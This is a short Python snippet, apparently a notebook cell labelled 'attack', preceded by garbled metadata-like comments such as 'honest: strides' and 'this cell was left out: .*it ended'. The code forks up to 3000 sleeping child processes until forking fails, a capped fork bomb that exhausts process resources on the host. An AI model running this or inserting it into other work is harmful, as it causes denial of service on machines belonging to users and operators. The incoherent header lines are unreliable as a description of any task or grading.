# earns: 2
# honest: strides
# shows: attack: this cell was left out: .*it ended
# %% attack
import os, time
for _ in range(3000):
    try:
        if os.fork() == 0:
            time.sleep(1000)
    except OSError:
        break
